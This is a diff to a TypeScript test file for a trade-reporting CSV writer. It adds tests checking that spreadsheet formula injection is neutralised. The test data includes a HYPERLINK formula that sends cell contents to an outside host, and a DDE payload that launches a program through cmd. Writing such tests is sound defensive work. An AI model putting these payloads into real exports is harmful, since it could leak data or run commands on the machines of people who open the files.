@@ -3,7 +3,7 @@ import { test } from 'node:test'
 import { count, day, money, price, quantity } from '#kit/fields.ts'
 import { envelopeOf, hashedText, type ReportHead, reportFileName } from '#trade/authority/envelope.ts'
 import { canonicalTemplate, outsideRow, type TemplateField } from '#trade/authority/outside-rows.ts'
-import { csvOf, jsonOf, xmlOf } from '#trade/authority/report-text.ts'
+import { csvOf, csvText, jsonOf, xmlOf } from '#trade/authority/report-text.ts'
 import type { ReportedLine } from '#trade/authority/reported-line.ts'
 
 const field = (of: Partial<TemplateField>): TemplateField => ({
@@ -30,6 +30,8 @@ const cases: [title: string, of: Partial<TemplateField>, value: string | number 
   ['a code', { field: 'form', codes: 'Crushed=02\nRaw = 01' }, '01'],
   ['a code with the sign in it', { field: 'form', codes: 'Raw=a=b' }, 'a=b'],
   ['a value no code is given for', { field: 'form', codes: 'Crushed=02' }, 'Raw'],
+  ['a value whose line of codes gives none', { field: 'form', codes: 'Raw\n=03' }, 'Raw'],
+  ['a value whose code is nothing', { field: 'form', codes: 'Raw=' }, ''],
   ['a constant', { constant: 'SA' }, 'SA'],
   ['a constant where there is no value', { field: 'note', constant: '-' }, '-'],
   ['nothing', { field: 'note', form: 'Riyals' }, null],
@@ -112,3 +114,19 @@ test('the hash is of what is said, not of when', () => {
 
 test('the file is named for importer, report, last day, sequence and revision', () =>
   assert.equal(reportFileName(head), 'GFSA_IMP1_STOCK_TRANSFER_20260307_007_r2'))
+
+const words: [title: string, value: string | number, cell: string][] = [
+  ['a formula', '=HYPERLINK("http://example.com/?"&A1)', `"'=HYPERLINK(""http://example.com/?""&A1)"`],
+  ['a formula behind a sign', "+cmd|' /C calc'!A1", `'+cmd|' /C calc'!A1`],
+  ['one behind a minus', '-2+3+A1', `'-2+3+A1`],
+  ['the old beginning of a formula', '@SUM(A1)', `'@SUM(A1)`],
+  ['one behind a tab', '\t=1+1', `'\t=1+1`],
+  ['an amount below zero', '-1.250', '-1.250'],
+  ['a number below zero', -3, '-3'],
+  ['a phone number', '+966 55 123 4567', '+966 55 123 4567'],
+  ['a dash', '-', '-'],
+  ['a name', 'Al = Sahel', 'Al = Sahel'],
+]
+for (const [title, value, told] of words)
+  test(`in a file of lines ${title} is not computed and numbers stay`, () =>
+    assert.equal(csvText([[value]]), `\ufeff${told}\r\n`))
